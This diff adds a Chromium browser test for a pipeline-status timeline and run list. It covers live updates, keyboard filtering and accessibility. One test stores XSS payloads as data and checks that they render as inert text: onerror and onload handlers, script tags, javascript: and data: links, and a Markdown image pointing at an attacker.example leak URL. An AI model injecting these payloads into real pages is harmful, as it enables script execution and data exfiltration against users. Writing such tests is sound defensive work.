@@ -1,0 +1,362 @@
+/**
+ * RunTimeline and RunList in Chromium, used as a person uses them: a page of the components
+ * (components-page.tsx, bundled with esbuild) served beside the real handlers on a MemoryStore.
+ * A runner's updates go through HTTP and show up without a reload; the list filters with the
+ * keyboard and follows changes; hostile stored text renders as text and runs nothing; axe-core
+ * finds no serious or critical violation. Screenshots at 1280 and 390 px go to test/.artifacts
+ * (components-*.png).
+ */
+import { readFile, mkdir } from 'node:fs/promises'
+import { createServer, type Server } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { createRequire } from 'node:module'
+import { join } from 'node:path'
+import { fileURLToPath } from 'node:url'
+import { build } from 'esbuild'
+import { type Browser, chromium, type Page } from 'playwright-core'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { defineStages } from 'pipeline-status-sdk'
+import { createPipelineStatusHandlers, MemoryStore, type PipelineStatusHandlers } from 'pipeline-status-sdk/server'
+import { readSmallBody, toWebRequest, writeWebResponse } from '../../src/server/http/node-bridge.js'
+import { chromiumTool, toolForTests } from '../support/optional-tools.js'
+
+const root = fileURLToPath(new URL('../..', import.meta.url))
+const artifacts = join(root, 'test', '.artifacts')
+const require = createRequire(import.meta.url)
+const CHROMIUM = toolForTests(chromiumTool())
+const CHROMIUM_ARGS = ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync']
+const SECRET = 'components-test-secret'
+
+let server: Server | undefined
+let handlers: PipelineStatusHandlers | undefined
+let browser: Browser | undefined
+let origin = ''
+
+/** POSTs JSON to a route with the secret, as a runner does; returns the parsed answer. */
+async function post(path: string, body: unknown): Promise<Record<string, unknown>> {
+  const response = await fetch(`${origin}/api/pipeline${path}`, {
+    method: 'POST',
+    headers: { 'X-Webhook-Secret': SECRET, 'Content-Type': 'application/json' },
+    body: JSON.stringify(body),
+  })
+  const text = await response.text()
+  if (!response.ok) throw new Error(`POST ${path} answered ${response.status}: ${text}`)
+  return JSON.parse(text) as Record<string, unknown>
+}
+
+const stage = (runId: string, stageNumber: number, fields: Record<string, unknown>) =>
+  post(`/${encodeURIComponent(runId)}/stage-update`, { stageNumber, stageName: REPORT[stageNumber - 1], ...fields })
+
+const REPORT = ['Fetch', 'Summarise', 'Publish']
+let runCounter = 0
+function newRunId(prefix: string): string {
+  runCounter += 1
+  return `${prefix}-${Date.now().toString(36)}-${runCounter}`
+}
+
+/** Opens the page with the problems it reports collected (page errors, console errors, dialogs). */
+async function open(query: string, width = 1280): Promise<{ page: Page; problems: string[] }> {
+  const page = await browser!.newPage({ viewport: { width, height: 900 } })
+  const problems: string[] = []
+  page.on('pageerror', (error) => problems.push(`page error: ${error.message}`))
+  page.on('console', (message) => {
+    if (message.type() === 'error') problems.push(`console error: ${message.text()}`)
+  })
+  page.on('dialog', (dialog) => {
+    problems.push(`dialog: ${dialog.message()}`)
+    void dialog.dismiss()
+  })
+  await page.goto(`${origin}/?secret=${SECRET}&${query}`)
+  return { page, problems }
+}
+
+/** What the timeline shows, as a reader sees it. */
+function readTimeline(page: Page) {
+  return page.evaluate(() => ({
+    run: document.querySelector('[data-testid="run-status"]')?.getAttribute('data-status') ?? null,
+    live: document.querySelector('[data-testid="run-view"]')?.getAttribute('data-live') ?? null,
+    stages: [...document.querySelectorAll('[data-testid="stage"]')].map((element) => ({
+      status: element.getAttribute('data-status'),
+      neverRan: element.getAttribute('data-never-ran') === 'true',
+      progress: (element.querySelector('[data-testid="stage-progress"]') as HTMLElement | null)?.innerText ?? null,
+      output: (element.querySelector('[data-testid="stage-output"]') as HTMLElement | null)?.innerText ?? null,
+      attempt: element.querySelector('[data-testid="stage-attempt"]')?.textContent ?? null,
+      lastError: (element.querySelector('[data-testid="stage-last-error"]') as HTMLElement | null)?.innerText ?? null,
+      text: (element as HTMLElement).innerText,
+    })),
+    error: (document.querySelector('[data-testid="run-error"]') as HTMLElement | null)?.innerText ?? null,
+  }))
+}
+
+/** Ids of the list's rows, in order. */
+function listedIds(page: Page): Promise<string[]> {
+  return page.evaluate(() => [...document.querySelectorAll('[data-testid="run-row"]')].map((row) => row.getAttribute('data-run-id') ?? ''))
+}
+
+/** The label of the focused control (or its tag name). */
+function focusedLabel(page: Page): Promise<string> {
+  return page.evaluate(() => {
+    const active = document.activeElement as HTMLInputElement | null
+    return active?.labels?.[0]?.textContent ?? active?.textContent ?? active?.tagName ?? ''
+  })
+}
+
+/** Presses `key` until the control labelled `label` has the focus (at most 12 presses). */
+async function tabTo(page: Page, label: string, key: 'Tab' | 'Shift+Tab'): Promise<void> {
+  for (let index = 0; index < 12; index += 1) {
+    if ((await focusedLabel(page)) === label) return
+    await page.keyboard.press(key)
+  }
+  throw new Error(`${key} never reached ${label}; the focus is on ${await focusedLabel(page)}`)
+}
+
+/** Nothing sticks out sideways at the current width. */
+async function expectNoSidewaysScroll(page: Page): Promise<void> {
+  const { viewport, pageWidth } = await page.evaluate(() => ({ viewport: window.innerWidth, pageWidth: document.documentElement.scrollWidth }))
+  expect(pageWidth).toBeLessThanOrEqual(viewport)
+}
+
+/** axe-core's serious and critical violations on the page (WCAG 2.x A and AA rules, best practices). */
+async function axeViolations(page: Page): Promise<string[]> {
+  await page.addScriptTag({ path: require.resolve('axe-core/axe.min.js') })
+  const violations = await page.evaluate(async () => {
+    const result = await (window as unknown as { axe: { run: (context: Document, options: object) => Promise<{ violations: { id: string; impact: string | null; nodes: { target: string[] }[] }[] }> } }).axe.run(document, {
+      runOnly: { type: 'tag', values: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'best-practice'] },
+    })
+    return result.violations.map((violation) => ({ id: violation.id, impact: violation.impact, targets: violation.nodes.map((node) => node.target.join(' ')) }))
+  })
+  return violations.filter((violation) => violation.impact === 'serious' || violation.impact === 'critical').map((violation) => `${violation.id} (${violation.impact}): ${violation.targets.join(', ')}`)
+}
+
+describe.skipIf(!CHROMIUM)('RunTimeline and RunList in Chromium', () => {
+  beforeAll(async () => {
+    const bundle = await build({
+      entryPoints: [join(root, 'test/react/components-page.tsx')],
+      bundle: true,
+      write: false,
+      format: 'esm',
+      platform: 'browser',
+      jsx: 'automatic',
+      define: { 'process.env.NODE_ENV': '"development"' },
+      logLevel: 'silent',
+    })
+    const script = bundle.outputFiles[0]!.text
+    const styles = await readFile(join(root, 'src/react/styles.css'), 'utf8')
+    handlers = createPipelineStatusHandlers({
+      store: new MemoryStore(),
+      secret: SECRET,
+      pipelines: { default: defineStages(REPORT), other: defineStages(['Only']) },
+      logger: { info: () => {}, warn: () => {}, error: () => {} },
+    })
+    const html = `<!doctype html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">
+<title>Pipeline components</title><link rel="stylesheet" href="/styles.css">
+<style>body{margin:0;background:#f5f6f8;font-family:system-ui,sans-serif}.page{max-width:960px;margin:0 auto;padding:20px 16px}.page-title{font-size:18px;margin:0 0 16px}.page-list{margin-top:28px}</style>
+</head><body><div id="root"></div><script type="module" src="/app.js"></script></body></html>`
+    server = createServer((req, res) => {
+      void (async () => {
+        const path = new URL(req.url ?? '/', origin).pathname
+        if (path.startsWith('/api/pipeline/')) {
+          const gone = new AbortController()
+          res.once('close', () => gone.abort())
+          const request = toWebRequest(req, origin, { received: await readSmallBody(req), signal: gone.signal })
+          await writeWebResponse(res, await handlers!.fetch(request))
+          return
+        }
+        const [type, body] =
+          path === '/app.js' ? ['text/javascript', script] : path === '/styles.css' ? ['text/css', styles] : ['text/html; charset=utf-8', html]
+        res.writeHead(200, { 'content-type': type })
+        res.end(body)
+      })().catch(() => res.destroy())
+    })
+    await new Promise<void>((resolve) => server!.listen(0, '127.0.0.1', resolve))
+    origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
+    browser = await chromium.launch({ executablePath: CHROMIUM!, args: CHROMIUM_ARGS })
+    await mkdir(artifacts, { recursive: true })
+  }, 120_000)
+
+  afterAll(async () => {
+    await browser?.close().catch(() => {})
+    await handlers?.close().catch(() => {})
+    server?.closeAllConnections()
+    await new Promise<void>((resolve) => (server ? server.close(() => resolve()) : resolve()))
+  }, 30_000)
+
+  it("shows a run's stages change without a reload: progress, outputs as JSON and Markdown, a retry, then the failure with its line breaks and stages that never ran", async () => {
+    const runId = newRunId('timeline')
+    await post('/runs', { id: runId, tags: ['nightly'] })
+    const { page, problems } = await open(`run=${runId}`)
+    await expect.poll(async () => (await readTimeline(page)).live, { timeout: 15_000 }).toBe('live')
+    // All three catalogue stages listed before any reported.
+    expect((await readTimeline(page)).stages.map((s) => s.status)).toEqual(['PENDING', 'PENDING', 'PENDING'])
+
+    await stage(runId, 1, { status: 'COMPLETED', output: JSON.stringify({ pages: 40, source: 'https://example.com/a.pdf' }) })
+    await stage(runId, 2, { status: 'PROCESSING' })
+    await post(`/${runId}/heartbeat`, { stageNumber: 2, progress: { seq: 1, current: 37, total: 40, message: 'batch 37 of 40' } })
+    await expect.poll(async () => (await readTimeline(page)).stages[1]?.progress, { timeout: 15_000 }).toBe('37 of 40 · batch 37 of 40')
+    const shown = await readTimeline(page)
+    expect(shown.run).toBe('PROCESSING')
+    // JSON output, formatted.
+    expect(shown.stages[0]?.output).toBe(JSON.stringify({ pages: 40, source: 'https://example.com/a.pdf' }, null, 2))
+
+    // Streamed output (PROCESSING's text so far) is checked once streamed chunks land (issue 27);
+    // here a finished stage's Markdown output is rendered as Markdown.
+    // A retry: the attempt, the countdown, the last error with its line break.
+    await stage(runId, 2, { status: 'PROCESSING', attempt: 2, maxAttempts: 3, lastError: 'model timed out\nafter 120 s', nextRetryAt: new Date(Date.now() + 30_000).toISOString() })
+    await expect.poll(async () => (await readTimeline(page)).stages[1]?.attempt, { timeout: 15_000 }).toMatch(/^attempt 2 of 3 · retrying in \d+ s$/)
+    expect((await readTimeline(page)).stages[1]?.lastError).toBe('Last error: model timed out\nafter 120 s')
+    await page.screenshot({ path: join(artifacts, 'components-timeline-retry-1280.png'), fullPage: true })
+    await page.setViewportSize({ width: 390, height: 844 })
+    await expectNoSidewaysScroll(page)
+    await page.screenshot({ path: join(artifacts, 'components-timeline-retry-390.png'), fullPage: true })
+    await page.setViewportSize({ width: 1280, height: 900 })
+
+    const error = 'Stage 2 (Summarise) failed at batch 38 of 40:\n  TimeoutError: no answer in 120 s\n  at summarise (runner.ts:42)'
+    // A stage's failure output becomes the run's error.
+    await stage(runId, 2, { status: 'FAILED', output: error })
+    await expect.poll(async () => (await readTimeline(page)).run, { timeout: 15_000 }).toBe('FAILED')
+    const failed = await readTimeline(page)
+    expect(failed.stages.map((s) => [s.status, s.neverRan])).toEqual([['COMPLETED', false], ['FAILED', false], ['PENDING', true]])
+    expect(failed.stages[2]?.text).toContain('Never ran: the run failed before this stage started')
+    // Attempt 2 reset the stage's progress (the contract), so the failed stage shows none.
+    expect(failed.stages[1]?.progress).toBeNull()
+    expect(failed.error?.split('\n')).toEqual(error.split('\n'))
+    // The failed stage's output is that error, its line breaks kept too (not folded as Markdown would).
+    expect(failed.stages[1]?.output?.split('\n')).toEqual(error.split('\n'))
+    await expect.poll(async () => (await readTimeline(page)).live, { timeout: 15_000 }).toBe('finished')
+    await page.screenshot({ path: join(artifacts, 'components-timeline-failed-1280.png'), fullPage: true })
+    await page.setViewportSize({ width: 390, height: 844 })
+    await expectNoSidewaysScroll(page)
+    await page.screenshot({ path: join(artifacts, 'components-timeline-failed-390.png'), fullPage: true })
+    expect(await axeViolations(page)).toEqual([])
+    expect(problems).toEqual([])
+    await page.close()
+  })
+
+  it('renders hostile stored text as text: no element, link or script from it, nothing runs', async () => {
+    const runId = newRunId('hostile')
+    const attack = [
+      '## Summary',
+      'Some **bold** text.',
+      '<img src=x onerror="window.__pwned = 1; alert(1)">',
+      '<script>window.__pwned = 2; alert(2)</script>',
+      '[click me](javascript:window.__pwned=3) and [data](data:text/html,<script>alert(4)</script>)',
+      '![tracker](https://attacker.example/leak?q=secret)',
+      '<a href="javascript:alert(5)">raw link</a> <iframe src="javascript:alert(6)"></iframe>',
+      '[fine](https://example.com/ok)',
+    ].join('\n\n')
+    const tag = '<b onmouseover=alert(7)>tag</b>'
+    await post('/runs', { id: runId, tags: [tag] })
+    await stage(runId, 1, { status: 'COMPLETED', output: attack })
+    await stage(runId, 2, { status: 'PROCESSING', attempt: 2, maxAttempts: 2, lastError: '<img src=x onerror="window.__pwned=8">\n<script>alert(9)</script>', nextRetryAt: null })
+    // The failed stage's output becomes the run's error.
+    await stage(runId, 2, { status: 'FAILED', output: '<img src=x onerror="window.__pwned=11">\n<script>alert(12)</script><svg onload=alert(10)>' })
+
+    const { page, problems } = await open(`run=${runId}&list=1`)
+    await expect.poll(async () => (await readTimeline(page)).run, { timeout: 15_000 }).toBe('FAILED')
+    await expect.poll(() => listedIds(page), { timeout: 15_000 }).toContain(runId)
+    const output = page.locator('[data-stage-number="1"] [data-testid="stage-output"]')
+    // Raw HTML shows as its text.
+    expect(await output.innerText()).toContain('<img src=x onerror="window.__pwned = 1; alert(1)">')
+    expect(await output.innerText()).toContain('<script>window.__pwned = 2; alert(2)</script>')
+    expect((await readTimeline(page)).error).toBe('<img src=x onerror="window.__pwned=11">\n<script>alert(12)</script><svg onload=alert(10)>')
+    // Markdown itself still renders: a heading and emphasis are elements React made, not parsed HTML.
+    expect(await output.locator('h2').textContent()).toBe('Summary')
+    expect(await output.locator('strong').textContent()).toBe('bold')
+    // No element came from the stored text: no img, script, iframe, svg; only the safe link is a link.
+    const found = await page.evaluate((id) => ({
+      elements: document.querySelectorAll('#root img, #root script, #root iframe, #root svg, #root b').length,
+      hrefs: [...document.querySelectorAll('[data-testid="stage-output"] a')].map((a) => a.getAttribute('href')),
+      javascriptLinks: document.querySelectorAll('a[href^="javascript" i], a[href^="data" i]').length,
+      tags: [...document.querySelectorAll(`[data-run-id="${id}"] .ps-tag`)].map((element) => element.textContent),
+      pwned: (window as unknown as { __pwned?: unknown }).__pwned ?? null,
+    }), runId)
+    expect(found).toEqual({
+      elements: 0,
+      // The image is a link to its URL (not loaded), the safe link kept; javascript: and data: links lost their URL.
+      hrefs: ['https://attacker.example/leak?q=secret', 'https://example.com/ok'],
+      javascriptLinks: 0,
+      tags: [tag],
+      pwned: null,
+    })
+    // The unsafe links keep their text, without a URL to follow.
+    expect(await page.locator('.ps-md-link-removed').allInnerTexts()).toEqual(['click me', 'data'])
+    // Click what was a javascript: or data: link: still nothing runs.
+    for (const element of await page.locator('[data-testid="stage-output"] .ps-md-link-removed').all()) await element.click()
+    await page.hover(`[data-run-id="${runId}"] .ps-tag`)
+    expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned ?? null)).toBeNull()
+    await page.screenshot({ path: join(artifacts, 'components-hostile-1280.png'), fullPage: true })
+    expect(problems).toEqual([])
+    await page.close()
+  })
+
+  it('filters the list with the keyboard, follows runs as they change, and links each run', async () => {
+    const tag = `kb-${Date.now().toString(36)}`
+    const [first, second, third] = [newRunId('list-a'), newRunId('list-b'), newRunId('list-c')]
+    await post('/runs', { id: first, tags: [tag, 'nightly'] })
+    await post('/runs', { id: second, tags: [tag], pipeline: 'other' })
+    await post('/runs', { id: third, tags: [tag] })
+    await stage(first, 1, { status: 'COMPLETED', output: 'done' })
+    await stage(first, 2, { status: 'PROCESSING' })
+
+    const { page, problems } = await open('list=1')
+    await expect.poll(() => listedIds(page), { timeout: 15_000 }).toEqual(expect.arrayContaining([first, second, third]))
+
+    // Keyboard only: Tab reaches the filters in order (a date input takes a Tab per part), typing a tag filters the list.
+    await page.locator('body').focus()
+    const focusOrder: string[] = []
+    for (let index = 0; index < 12 && focusOrder.length < 5; index += 1) {
+      await page.keyboard.press('Tab')
+      const label = await focusedLabel(page)
+      if (label !== focusOrder.at(-1)) focusOrder.push(label)
+    }
+    expect(focusOrder).toEqual(['Pipeline', 'Status', 'Tag', 'Created from', 'Created to'])
+    await tabTo(page, 'Tag', 'Shift+Tab')
+    await page.keyboard.type(tag)
+    await expect.poll(() => listedIds(page), { timeout: 15_000 }).toEqual([third, second, first])
+    // Status by keyboard: Shift+Tab to the status select, choose Processing.
+    await tabTo(page, 'Status', 'Shift+Tab')
+    await page.locator(':focus').selectOption('PROCESSING')
+    await expect.poll(() => listedIds(page), { timeout: 15_000 }).toEqual([first])
+    const row = await page.evaluate(() => {
+      const element = document.querySelector('[data-testid="run-row"]') as HTMLElement
+      return element.innerText
+    })
+    expect(row).toContain('PROCESSING')
+    expect(row).toContain('stage 2 of 3')
+    expect(row).toMatch(/running \d+ s/)
+
+    // Follows: the run leaves the PROCESSING filter when it completes, without a reload.
+    await stage(first, 2, { status: 'COMPLETED' })
+    await stage(first, 3, { status: 'COMPLETED' })
+    await expect.poll(() => listedIds(page), { timeout: 15_000 }).toEqual([])
+    expect(await page.locator('.ps-empty').innerText()).toBe('No run matches these filters.')
+    await page.locator(':focus').selectOption('')
+    // The pipeline filter.
+    await page.getByLabel('Pipeline').selectOption('other')
+    await expect.poll(() => listedIds(page), { timeout: 15_000 }).toEqual([second])
+    await page.getByRole('button', { name: 'Clear filters' }).click()
+    await expect.poll(async () => (await listedIds(page)).length, { timeout: 15_000 }).toBeGreaterThanOrEqual(3)
+    // A date range that ends before today holds none of them.
+    await page.getByLabel('Created to').fill('2020-01-01')
+    await expect.poll(() => listedIds(page), { timeout: 15_000 }).toEqual([])
+    await page.getByRole('button', { name: 'Clear filters' }).click()
+    await page.getByRole('searchbox', { name: 'Tag' }).fill(tag)
+    await expect.poll(() => listedIds(page), { timeout: 15_000 }).toEqual([third, second, first])
+
+    await page.screenshot({ path: join(artifacts, 'components-list-1280.png'), fullPage: true })
+    expect(await axeViolations(page)).toEqual([])
+    await page.setViewportSize({ width: 390, height: 844 })
+    await expectNoSidewaysScroll(page)
+    await page.screenshot({ path: join(artifacts, 'components-list-390.png'), fullPage: true })
+    expect(await axeViolations(page)).toEqual([])
+
+    // The link the app rendered: reached by Tab, followed with Enter, opens the run's timeline.
+    await page.locator(`a.ps-run-link:text-is("${first}")`).focus()
+    await page.keyboard.press('Enter')
+    await page.waitForURL((url) => url.searchParams.get('run') === first)
+    await expect.poll(async () => (await readTimeline(page)).run, { timeout: 15_000 }).toBe('COMPLETED')
+    expect((await readTimeline(page)).stages.map((s) => s.status)).toEqual(['COMPLETED', 'COMPLETED', 'COMPLETED'])
+    expect(problems).toEqual([])
+    await page.close()
+  })
+})
